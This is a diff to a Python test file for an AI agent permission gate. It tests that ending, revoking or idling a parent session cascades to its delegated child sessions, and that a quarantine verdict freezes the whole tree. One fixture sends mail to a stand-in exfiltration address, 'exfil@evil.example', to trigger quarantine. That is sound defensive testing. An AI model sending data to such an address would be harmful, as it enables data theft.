@@ -2,26 +2,30 @@
 
 from __future__ import annotations
 
+from collections.abc import Callable
 from typing import Any, ClassVar
 
 import msgspec
 import pytest
 
-from streams.model.delegation import Delegation
+from streams.model.delegation import Delegation, DelegationOp
 from streams.model.labels import CLEAN, WORST, Confidentiality, Integrity, Label
 from streams.model.reasons import DeadLetterReason, Reason
-from streams.model.revocation import RevocationKind
+from streams.model.revocation import Revocation, RevocationKind, RevocationState
+from streams.model.revocation_set import RevocationSet
 from streams.model.session import SessionEventType
 from streams.model.topics import DELEGATION, REVOCATION, SESSION
-from streams.model.verdict import Origin
-from streams.testing.records import UNTRUSTED, SessionMaker, revocation
-from tests.kit import FILES_READ, MAIL_SEND, MINUTE_MS, WEB_FETCH, GateBench
-from tests.unit.delegation.denials import standing_on
+from streams.model.verdict import Origin, Outcome
+from streams.sdk.checks import stoppable
+from streams.testing.records import SESSION_LIFE_MS, UNTRUSTED, SessionMaker, revocation
+from tests.kit import FILES_READ, HOUR_MS, MAIL_SEND, MINUTE_MS, START_MS, WEB_FETCH, GateBench
+from tests.unit.delegation.denials import SETTINGS, standing_on
 from tests.unit.delegation.family import Family, tool, tools
 
 ALLOWED = Reason.PERMITTED.value
 ANY_TOOL = tools(tool("mail", "send"), tool("web", "fetch"), tool("files", "read"))
 PATH = {"path": "a.txt"}
+IDLE_MS = 10 * MINUTE_MS
 
 
 class House:
@@ -32,7 +36,8 @@ class House:
         fields = {"authorization_details": ANY_TOOL, "audience": ("files", "mail", "web"), **changes}
         self.root = self.family.root(**fields)
         self.mother = self.family.mother
-        self.bench = standing_on(self.root, self.mother)
+        self.bench = standing_on(self.root, self.mother, session_idle_ms=IDLE_MS)
+        self.others: list[SessionMaker] = []
 
     def child(
         self, session_id: str, parent: Delegation | None = None, giver: SessionMaker | None = None, **event: Any
@@ -44,6 +49,7 @@ class House:
         event = {"delegation_uid": uid, "parent_session_id": giver.session_id, **event}
         self.bench.establish(maker, scopes=("files:read", "mail:send"), **event)
         self.bench.driver.pipe(DELEGATION.name, maker.key, grant)
+        self.others.append(maker)
         return maker, grant
 
     def reason(self, session: SessionMaker) -> str:
@@ -197,3 +203,191 @@ class TestKillingAnAgent:
         grandchild, _ = house.child("s-9", hop, child, act="sender")
         assert house.bench.judge(FILES_READ, PATH, session=grandchild).ancestor_actors == ("planner", "writer")
         assert house.bench.judge(FILES_READ, PATH, session=house.mother).ancestor_actors == ()
+
+
+END, REVOKE = SessionEventType.SESSION_ENDED, SessionEventType.SESSION_REVOKED
+EXFILTRATION = {"to": "exfil@evil.example"}
+
+
+def say(house: House, kind: SessionEventType) -> None:
+    house.bench.driver.pipe(SESSION.name, house.mother.key, house.mother.event(kind, house.bench.now_ms))
+
+
+def take_back(house: House) -> None:
+    taken = house.mother.grant("g-1", house.bench.now_ms, op=DelegationOp.REVOKE, unproven={"proof": None})
+    house.bench.driver.pipe(DELEGATION.name, house.mother.key, taken)
+
+
+def let_lie(house: House) -> None:
+    """All others are at work meanwhile."""
+    house.bench.wait(IDLE_MS - MINUTE_MS)
+    for session in house.others:
+        assert house.reason(session) == ALLOWED
+    house.bench.wait(MINUTE_MS)
+
+
+ENDS: dict[str, tuple[Callable[[House], None], Reason]] = {
+    "ended": (lambda house: say(house, END), Reason.SESSION_ENDED),
+    "revoked": (lambda house: say(house, REVOKE), Reason.SESSION_REVOKED),
+    "its grant taken back": (take_back, Reason.SESSION_REVOKED),
+    "idle": (let_lie, Reason.SESSION_IDLE),
+}
+
+
+def stops(house: House) -> list[Revocation]:
+    """New records of the revocation topic."""
+    return [read.record for read in house.bench.driver.read(REVOCATION.name) if isinstance(read.record, Revocation)]
+
+
+class TestTheEndOfTheGiver:
+    @pytest.mark.parametrize("how", ENDS)
+    def test_it_takes_all_below_with_it_and_all_that_is_made_later(self, how: str) -> None:
+        """What has been signed before, or is by whoever still has the key of a session that is over."""
+        end, reason = ENDS[how]
+        house = House(exp=START_MS + HOUR_MS)
+        child, hop = house.child("s-8")
+        grandchild, _ = house.child("s-9", hop, child, act="sender")
+        end(house)
+        late, _ = house.child("s-10")
+        assert house.reason(house.mother) == reason
+        assert [house.reason(each) for each in (child, grandchild, late)] == [Reason.SESSION_PARENT_ENDED] * 3
+
+    @pytest.mark.parametrize("how", ENDS)
+    def test_what_it_writes(self, how: str) -> None:
+        end, reason = ENDS[how]
+        house = House(exp=START_MS + HOUR_MS)
+        end(house)
+        (stop,) = stops(house)
+        assert (stop.kind, stop.id, stop.state) == (RevocationKind.SESSION, "acme|s-1", RevocationState.REVOKED)
+        assert (stop.reason, stop.initiating_entity) == (reason, "stoplog/gate")
+        assert stop.until == house.root.exp
+
+    @pytest.mark.parametrize("how", ENDS)
+    def test_nothing_where_nothing_can_have_been_given_on(self, how: str) -> None:
+        end, _ = ENDS[how]
+        house = House(max_depth=0, exp=START_MS + HOUR_MS)
+        end(house)
+        assert not stops(house)
+
+    def test_nothing_for_a_session_without_a_grant(self) -> None:
+        bench = GateBench()
+        bench.driver.pipe(SESSION.name, bench.session.key, bench.session.event(END, bench.now_ms))
+        assert not bench.driver.read(REVOCATION.name)
+
+    def test_nothing_once_its_grant_has_expired(self) -> None:
+        house = House()
+        house.bench.wait(2 * HOUR_MS)
+        assert house.reason(house.mother) == Reason.SESSION_IDLE
+        assert not stops(house)
+
+    def test_age_ends_what_the_credential_would_not(self) -> None:
+        family = Family()
+        root = family.root(authorization_details=ANY_TOOL, audience=("files",), exp=START_MS + HOUR_MS)
+        bench = standing_on(root, family.mother, unattended_age_max_ms=10 * MINUTE_MS)
+        bench.wait(10 * MINUTE_MS)
+        assert bench.judge(FILES_READ, PATH, session=family.mother).reason == Reason.SESSION_TOO_OLD
+        ((_, stop, _),) = bench.driver.read(REVOCATION.name)
+        assert isinstance(stop, Revocation)
+        assert (stop.reason, stop.until) == (Reason.SESSION_TOO_OLD, root.exp)
+
+    @pytest.mark.parametrize("kind", [END, REVOKE])
+    @pytest.mark.parametrize("grant_first", [False, True])
+    def test_a_session_that_is_over_before_it_begins(self, kind: SessionEventType, grant_first: bool) -> None:
+        house = House()
+        maker = SessionMaker("s-20", act="writer")
+        bench = house.bench
+        hop = house.mother.handed_on(house.root, "g-20", bench.now_ms, maker)
+        records = [(SESSION, maker.event(kind, bench.now_ms)), (DELEGATION, hop)]
+        for topic, record in reversed(records) if grant_first else records:
+            bench.driver.pipe(topic.name, maker.key, record)
+        (stop,) = stops(house)
+        assert (stop.id, stop.until) == ("acme|s-20", hop.exp)
+        grandchild, _ = house.child("s-21", hop, maker, act="sender")
+        assert house.reason(grandchild) == Reason.SESSION_PARENT_ENDED
+
+    def test_a_grant_that_never_came_may_have_been_given_on(self) -> None:
+        house, maker = House(), SessionMaker("s-20", act="writer")
+        house.bench.establish(maker, delegation_uid="g-20")
+        house.bench.driver.pipe(SESSION.name, maker.key, maker.event(END, house.bench.now_ms))
+        assert [stop.id for stop in stops(house)] == ["acme|s-20"]
+
+    def test_what_waits_below_ends_at_once(self) -> None:
+        house = House()
+        child, _ = house.child("s-8")
+        house.bench.judge(MAIL_SEND, {"ask": "one"}, session=child)
+        say(house, END)
+        assert [end.reason for end in house.bench.verdicts()] == [Reason.SESSION_PARENT_ENDED]
+
+    def test_it_reaches_another_partition_and_another_gate(self) -> None:
+        """The topic has one partition, wherever the session lies."""
+        bench = GateBench(settings=SETTINGS, with_session=False, partitions=4)
+        for number in range(8):
+            mother, child = SessionMaker(f"mother-{number}"), SessionMaker(f"child-{number}")
+            root = mother.grant("g-1", bench.now_ms)
+            hop = mother.handed_on(root, "g-2", bench.now_ms, child)
+            for maker, grant in ((mother, root), (child, hop)):
+                bench.establish(maker, delegation_uid=grant.uid)
+                bench.driver.pipe(DELEGATION.name, maker.key, grant)
+            assert bench.judge(FILES_READ, PATH, session=child).reason == ALLOWED
+            bench.driver.pipe(SESSION.name, mother.key, mother.event(END, bench.now_ms))
+            assert bench.judge(FILES_READ, PATH, session=child).reason == Reason.SESSION_PARENT_ENDED
+        assert len(bench.driver.read(REVOCATION.name)) == 8
+        bench.restart()
+        assert bench.judge(FILES_READ, PATH, session=child).reason == Reason.SESSION_PARENT_ENDED
+
+
+class TestQuarantine:
+    def test_it_reaches_all_below_and_all_that_is_made_later(self) -> None:
+        house = House()
+        child, hop = house.child("s-8")
+        grandchild, _ = house.child("s-9", hop, child, act="sender")
+        assert house.bench.judge(MAIL_SEND, EXFILTRATION, session=house.mother).outcome is Outcome.QUARANTINE
+        late, _ = house.child("s-10")
+        assert house.reason(house.mother) == Reason.SESSION_FROZEN
+        assert [house.reason(each) for each in (child, grandchild, late)] == [Reason.SESSION_PARENT_ENDED] * 3
+        house.bench.restart()
+        assert house.reason(house.mother) == Reason.SESSION_FROZEN
+
+    def test_one_release_ends_both(self) -> None:
+        house = House()
+        child, _ = house.child("s-8")
+        house.bench.judge(MAIL_SEND, EXFILTRATION, session=house.mother)
+        (stop,) = stops(house)
+        release(house)
+        assert [house.reason(each) for each in (house.mother, child)] == [ALLOWED] * 2
+        house.bench.judge(MAIL_SEND, EXFILTRATION, session=house.mother)
+        _, again = stops(house)
+        assert again.header.id != stop.header.id
+        assert [house.reason(each) for each in (house.mother, child)] == [
+            Reason.SESSION_FROZEN,
+            Reason.SESSION_PARENT_ENDED,
+        ]
+
+    def test_verdicts_that_were_given_are_stopped_also_without_a_grant(self) -> None:
+        bench = GateBench()
+        allowed = bench.judge()
+        bench.judge(MAIL_SEND, EXFILTRATION)
+        ((_, stop, _),) = bench.driver.read(REVOCATION.name)
+        assert isinstance(stop, Revocation)
+        assert stop.until == bench.now_ms + SESSION_LIFE_MS
+        known = RevocationSet()
+        known.apply(stop)
+        assert known.reason_against(stoppable(allowed), bench.now_ms) is Reason.SESSION_REVOKED
+
+    def test_an_intent_that_comes_again_writes_nothing_new(self) -> None:
+        bench = GateBench()
+        intent = bench.propose(MAIL_SEND, EXFILTRATION)
+        bench.send(intent)
+        assert len(bench.driver.read(REVOCATION.name)) == 1
+
+    def test_a_forged_intent_freezes_nothing(self) -> None:
+        bench = GateBench()
+        bench.propose(MAIL_SEND, EXFILTRATION, unproven={"turn": 9})
+        assert not bench.driver.read(REVOCATION.name)
+
+
+def release(house: House) -> None:
+    released = revocation(
+        RevocationKind.SESSION, "acme|s-1", time_ms=house.bench.now_ms, state=RevocationState.RELEASED
+    )
+    house.bench.driver.pipe(REVOCATION.name, *released)
